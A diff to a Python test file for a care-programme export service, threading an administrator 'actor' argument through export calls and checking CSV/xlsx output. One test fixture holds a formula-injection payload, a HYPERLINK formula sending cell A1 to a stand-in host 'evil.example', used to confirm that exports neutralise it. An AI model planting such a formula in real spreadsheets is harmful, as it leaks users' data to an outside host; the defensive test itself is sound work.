@@ -14,11 +14,14 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 
 import mbfcare
+from mbfcare.domain.actors import Actor
 from mbfcare.errors import NotFoundError, UsageError, ValidationError
 from mbfcare.models import Batch, CareCase, Programme, Subscriber
 from mbfcare.services import exporting
 from mbfcare.services.exporting import export_care_list, export_regional, province_name
 from mbfcare.uow import UnitOfWork
+
+KT = Actor("Kiểm thử")  # who exports in these tests (an administrator)
 
 INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
@@ -92,7 +95,7 @@ def as_dicts(ws: Any) -> list[dict[str, Any]]:
 
 def test_regional_export(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
     out = tmp_path / "kv5.xlsx"
-    result = export_regional(factory, out, user="Nguyễn Thu Hà")
+    result = export_regional(factory, out, actor=Actor("Nguyễn Thu Hà"))
     assert result.file == str(out) and result.programme_id == seeded
     assert result.rows == {"ChiTiet": 8, "TongHop": result.rows["TongHop"], "KhoQua": 3,
                            "KhaoSat": 0, "ThongTin": result.rows["ThongTin"]}
@@ -148,7 +151,7 @@ def test_regional_uses_programme_province_and_reads_once(
             return super().__enter__()
 
     monkeypatch.setattr(exporting, "UnitOfWork", CountingUnitOfWork)
-    result = export_regional(factory, tmp_path / "hp.xlsx", programme_id=seeded)
+    result = export_regional(factory, tmp_path / "hp.xlsx", programme_id=seeded, actor=KT)
     assert opened == [False]  # one read unit of work
     wb = openpyxl.load_workbook(tmp_path / "hp.xlsx")
     info = dict(r for r in wb["ThongTin"].iter_rows(min_row=2, values_only=True))
@@ -159,17 +162,17 @@ def test_regional_uses_programme_province_and_reads_once(
 def test_regional_without_care_list(
     factory: sessionmaker[Session], programme_id: int, tmp_path: Path
 ) -> None:
-    result = export_regional(factory, tmp_path / "empty.xlsx")
+    result = export_regional(factory, tmp_path / "empty.xlsx", actor=KT)
     assert result.rows["ChiTiet"] == 0 and result.rows["TongHop"] == 1
 
 
 def test_regional_errors(factory: sessionmaker[Session], tmp_path: Path) -> None:
     with pytest.raises(NotFoundError):
-        export_regional(factory, tmp_path / "x.xlsx")
+        export_regional(factory, tmp_path / "x.xlsx", actor=KT)
     with pytest.raises(UsageError):
-        export_regional(factory, tmp_path / "x.csv")
+        export_regional(factory, tmp_path / "x.csv", actor=KT)
     with pytest.raises(UsageError):
-        export_regional(factory, tmp_path / "missing" / "x.xlsx")
+        export_regional(factory, tmp_path / "missing" / "x.xlsx", actor=KT)
 
 
 def test_failed_export_leaves_the_old_file(
@@ -185,7 +188,7 @@ def test_failed_export_leaves_the_old_file(
 
     monkeypatch.setattr(exporting, "write_regional", boom)
     with pytest.raises(RuntimeError):
-        export_regional(factory, out)
+        export_regional(factory, out, actor=KT)
     assert out.read_bytes() == b"old"
     assert [p.name for p in out.parent.iterdir()] == ["kv5.xlsx"]
 
@@ -209,7 +212,7 @@ LIST_HEADERS = [
 
 def test_care_list_xlsx(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
     out = tmp_path / "ds.xlsx"
-    result = export_care_list(factory, out)
+    result = export_care_list(factory, out, actor=KT)
     assert (result.rows, result.format, result.filters) == (9, "xlsx", {})
     ws = openpyxl.load_workbook(out).active
     assert ws is not None
@@ -239,7 +242,7 @@ def test_care_list_xlsx(factory: sessionmaker[Session], seeded: int, tmp_path: P
 
 def test_care_list_csv(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
     out = tmp_path / "ds.csv"
-    result = export_care_list(factory, out, batch=1, group=2)
+    result = export_care_list(factory, out, batch=1, group=2, actor=KT)
     raw = out.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
     with out.open(encoding="utf-8-sig", newline="") as f:
@@ -254,7 +257,7 @@ def test_care_list_csv_injection_and_quoting(
     factory: sessionmaker[Session], seeded: int, tmp_path: Path
 ) -> None:
     out = tmp_path / "g1.csv"
-    export_care_list(factory, out, batch=1, group=1)
+    export_care_list(factory, out, batch=1, group=1, actor=KT)
     text = out.read_text(encoding="utf-8-sig")
     # the formula name is quoted (it holds commas and quotes) and starts with '
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"' in text
@@ -266,7 +269,7 @@ def test_care_list_csv_injection_and_quoting(
 def test_care_list_filters(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
     def numbers(**kw: Any) -> list[str]:
         out = tmp_path / "f.csv"
-        export_care_list(factory, out, **kw)
+        export_care_list(factory, out, **kw, actor=KT)
         with out.open(encoding="utf-8-sig", newline="") as f:
             return [r[1] for r in list(csv.reader(f))[1:]]
 
@@ -279,13 +282,13 @@ def test_care_list_filters(factory: sessionmaker[Session], seeded: int, tmp_path
 
 def test_care_list_errors(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
     with pytest.raises(UsageError):
-        export_care_list(factory, tmp_path / "ds.pdf")
+        export_care_list(factory, tmp_path / "ds.pdf", actor=KT)
     with pytest.raises(NotFoundError):
-        export_care_list(factory, tmp_path / "ds.csv", batch=9)
+        export_care_list(factory, tmp_path / "ds.csv", batch=9, actor=KT)
     with pytest.raises(ValidationError):
-        export_care_list(factory, tmp_path / "ds.csv", group=3)
+        export_care_list(factory, tmp_path / "ds.csv", group=3, actor=KT)
     with pytest.raises(NotFoundError):
-        export_care_list(factory, tmp_path / "ds.csv", programme_id=99)
+        export_care_list(factory, tmp_path / "ds.csv", programme_id=99, actor=KT)
 
 
 def test_regional_workbook_shows_the_work_recorded(
@@ -317,7 +320,7 @@ def test_regional_workbook_shows_the_work_recorded(
                                    answers={"overall": 5, "recommend": "Có"},
                                    answered_on=dt.date(2017, 3, 4)))
     out = tmp_path / "kv5.xlsx"
-    export_regional(factory, out)
+    export_regional(factory, out, actor=KT)
     book = openpyxl.load_workbook(out)
     sheet = book["ChiTiet"]
     headers = [c.value for c in sheet[1]]
